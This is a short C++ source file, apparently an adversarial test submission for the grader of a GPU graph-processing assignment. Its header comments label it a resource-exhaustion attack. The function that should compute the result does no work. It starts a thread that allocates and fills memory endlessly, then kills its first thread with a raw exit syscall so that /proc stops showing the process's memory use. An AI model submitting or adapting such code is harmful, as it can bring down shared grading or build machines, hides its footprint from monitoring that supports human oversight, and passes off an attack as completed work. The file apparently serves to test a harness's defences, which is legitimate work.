// attack: exhaust
// root: resources
// what: ends its first thread, so that /proc shows no memory of the process any more; another
//   thread takes memory without end
// list: 9
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

static void* take(void*) {
  while (true)
    if (void* more = malloc(16 << 20)) memset(more, 1, 16 << 20);
}

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  pthread_t thread;
  pthread_create(&thread, nullptr, take, nullptr);
  syscall(SYS_exit, 0);
}
